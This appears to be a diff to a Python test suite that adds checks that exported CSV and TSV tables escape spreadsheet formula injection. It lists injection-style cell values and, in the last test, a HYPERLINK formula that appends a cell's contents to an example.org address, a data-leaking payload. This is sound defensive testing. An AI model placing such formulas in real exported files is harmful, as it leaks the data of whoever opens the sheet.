@@ -19,6 +19,7 @@ from app.model.document.angle import Angle
 from app.model.document.song import Song
 from app.model.document.verdict import Verdict
 from app.model.on_song import Clip, SongView, on_song
+from app.model.storage.guard import NO_CLIPS
 from tests.app.random_shoots import any_shoots, clip, media, sensible_shoots, shoot, take
 
 TSV = replace(DEFAULT, form=Form.TSV)
@@ -151,3 +152,37 @@ def test_a_folder_that_is_not_there_is_told(tmp_path: Path) -> None:
     ):
         with pytest.raises(HandoffError, match="could not be written: No such file"):
             write()
+
+
+# What a spreadsheet would take for a formula, as cells of people's own.
+FORMULAS = ("=1+2", "+take", "-take", "@name", "\t=1", "\r=1", " =1", "'=1", "''=1", "=", "-", "＝1")
+HARMLESS = ("-0.5", "+3", "-1e-05", "Verse - 2", "'tis", "'-0.5", "", "A=B", "–")
+
+
+@pytest.mark.parametrize("form", Form)
+def test_no_cell_is_a_formula_to_a_spreadsheet(form: Form, tmp_path: Path) -> None:
+    """A formula in a note would be worked out, or sent elsewhere, by whoever opens the table."""
+    columns = ("a", "b")
+    table = Table(columns, tuple({"a": text, "b": "-0.5"} for text in (*FORMULAS, *HARMLESS)))
+    path = tmp_path / f"x.{form}"
+    table_text.write(path, table, form, NO_CLIPS)
+    found = [row["a"] for row in rows(path, form)]
+    assert [row["b"] for row in rows(path, form)] == ["-0.5"] * len(found)
+    for text in found[: len(FORMULAS)]:
+        assert text.startswith("'")
+    assert found[len(FORMULAS) :] == list(HARMLESS)
+    again = [row["a"] for row in table_text.read(path.read_bytes(), form)]
+    assert again == [table_text.cell(text, form) for text in (*FORMULAS, *HARMLESS)]
+
+
+@given(st.text(alphabet="'=+-@ \t\r1.e＝x"))
+def test_every_cell_reads_back_as_it_was(text: str) -> None:
+    for form in Form:
+        table = Table(("a", "b"), ({"a": text, "b": "x"},))
+        assert table_text.read(table_text.to_text(table, form), form)[0]["a"] == table_text.cell(text, form)
+
+
+def test_a_note_that_is_a_formula_is_text_in_the_table_of_takes(tmp_path: Path) -> None:
+    note = '=HYPERLINK("https://example.org/?"&A1)'
+    take_table.write(shoot(clip(1, take("a", 0, 5), note=note)), tmp_path / "t.csv")
+    assert rows(tmp_path / "t.csv")[0]["note"] == f"'{note}"
